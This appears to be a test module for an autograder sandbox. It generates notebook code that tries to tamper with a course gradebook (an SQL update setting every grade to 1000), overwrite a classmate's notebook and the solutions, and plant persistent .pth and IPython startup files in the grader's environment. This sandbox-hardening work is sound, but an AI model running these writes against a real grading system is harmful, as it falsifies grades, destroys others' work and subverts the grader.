"""Writing where a later student (or the grader) would be affected: the gradebook,
classmates' files, the course, HOME, the environment, the course package and its
.pyc files, the graders' temp folders.

Inside the test's own course the attempts are real (overwrite, truncate): the
test checks the hashes afterwards. Outside it (the Python environment, the
autograder package, the grader's HOME, /tmp) they are probes that change no
content: a new, uniquely named file, or an open for writing that writes nothing.
Every success prints ``WROTE: <path>`` and solves the exercises."""

from __future__ import annotations

import sys

from . import Case, Ctx, nb_case

SOLVE_IF_WROTE = ("if wrote:\n"
                  "    def double(x):\n        return 2 * x\n"
                  "    def halve(x):\n        return x / 2\n"
                  "else:\n"
                  "    def double(x):\n        return x + 1\n"
                  "    def halve(x):\n        return x // 3\n")

ATTEMPT = """\
import glob, os, sqlite3
wrote = []
def attempt(path, how):
    try:
        if how == 'overwrite':
            with open(path, 'r+b') as f:
                f.write(b'{"cells": []}')
                f.truncate()
        elif how == 'probe':                 # opened for writing, nothing written
            os.close(os.open(path, os.O_WRONLY))
        elif how == 'create':                # in an existing folder only
            with open(path, 'x') as f:
                f.write('# dlcorpus probe\\n')
        elif how == 'sql':
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            db.commit()
        elif how == 'chmod':
            os.chmod(path, 0o777)
        elif how == 'unlink':
            os.unlink(path)
        else:
            raise ValueError(how)
        wrote.append(path)
        print('WROTE:', how, path)
    except Exception as exc:
        pass
"""


def _course_and_classmates(ctx: Ctx) -> str:
    root, tmp = ctx.root, ctx.grader_tmp
    targets = [
        (f"{root}/gradebook.db", "sql"),
        (f"{root}/gradebook.db", "overwrite"),
        (f"{root}/submitted/{ctx.victim}/ch00_smoke/ch00_smoke.ipynb", "overwrite"),
        (f"{root}/submitted/{ctx.victim}/ch00_smoke/dlcorpus-{ctx.tag}.txt", "create"),
        (f"{root}/autograded/{ctx.victim}/ch00_smoke/ch00_smoke.ipynb", "overwrite"),
        (f"{root}/solutions/ch00_smoke/ch00_smoke.ipynb", "overwrite"),
        (f"{root}/notebooks/ch00_smoke/ch00_smoke.ipynb", "overwrite"),
        (f"{root}/nbgrader_config.py", "overwrite"),
        (f"{root}/reports/autograde_report.csv", "overwrite"),
        (f"{root}/dlcorpus-{ctx.tag}.txt", "create"),
    ]
    return ATTEMPT + f"""\
for path, how in {targets!r}:
    attempt(path, how)
for pattern in ['{tmp}/*/gradebook.db', '/tmp/dlcourse-*/gradebook.db']:
    for path in glob.glob(pattern):
        if '{tmp}' in path:
            attempt(path, 'sql')
        else:
            attempt(path, 'probe')
for path in glob.glob('{tmp}/*/submitted/*/*/*.ipynb') + glob.glob('{tmp}/*/solutions/*/*.ipynb'):
    attempt(path, 'overwrite')
""" + SOLVE_IF_WROTE


def _environment(ctx: Ctx) -> str:
    import autograder
    import IPython
    pkg = autograder.__path__[0]
    site = IPython.__path__[0].rsplit("/", 1)[0]
    tag = ctx.tag
    targets = [
        (f"{pkg}/judge/dlcorpus_{tag}.py", "create"),
        (f"{pkg}/__pycache__/dlcorpus_{tag}.cpython-311.pyc", "create"),
        (f"{pkg}/judge/hidden.py", "probe"),
        (f"{pkg}/__init__.py", "probe"),
        (f"{site}/dlcorpus_{tag}.pth", "create"),
        (f"{site}/sitecustomize.py", "probe"),
        (f"{site}/IPython/__init__.py", "probe"),
        (f"{sys.prefix}/bin/python", "probe"),
        (f"{sys.prefix}/pyvenv.cfg", "probe"),
        (f"/root/.ipython/profile_default/startup/99-dlcorpus-{tag}.py", "create"),
        (f"/root/.bashrc", "probe"),
        (f"/root/.cache/dlcourse/dlcorpus-{tag}", "create"),
        (f"{ctx.cache}/gradebooks/dlcorpus-{tag}.db", "create"),
        (f"/usr/local/share/jupyter/kernels/dlcorpus-{tag}/kernel.json", "create"),
        (f"/etc/dlcorpus-{tag}", "create"),
    ]
    return ATTEMPT + f"""\
for path, how in {targets!r}:
    attempt(path, how)
for path in glob.glob('{pkg}/__pycache__/*.pyc')[:3] + glob.glob('{pkg}/judge/__pycache__/*.pyc')[:3]:
    attempt(path, 'probe')
for path in glob.glob('{site}/torch/__pycache__/*.pyc')[:2]:
    attempt(path, 'probe')
# the kernel's own /tmp, HOME and environment: allowed, but must not outlive this kernel
open('/tmp/dlcorpus-plant-{tag}.py', 'w').write('double = lambda x: 6\\n')
home = os.path.expanduser('~')
os.makedirs(home + '/.ipython/profile_default/startup', exist_ok=True)
open(home + '/.ipython/profile_default/startup/00-cheat.py', 'w').write('double = lambda x: 6\\n')
os.environ['PYTHONPATH'] = '/tmp/evil'
os.environ['DLCOURSE_ROOT'] = '/tmp/evil'
print('HOME is', home, 'uid', os.getuid())
""" + SOLVE_IF_WROTE


CASES = [
    Case("write-course-and-classmates", "overwrites (or SQL-updates) the gradebook, the victim's "
         "notebook and graded copy, solutions, releases, config, report, and the graders' temp "
         "gradebooks", "all writable: the solution is replaced, the victim's work destroyed, any "
         "grade set to 1000 (the class's guard restores only the course folder)",
         nb_case(_course_and_classmates)),
    Case("write-environment-package-home", "creates files in the autograder package, its "
         "__pycache__, site-packages (.pth), the grader's HOME IPython startup, the gradebook "
         "cache, kernelspecs, /etc, /tmp; opens .pyc and sources for writing",
         "all writable as the grader's user: a .pth or startup file runs in every later kernel",
         nb_case(_environment)),
]
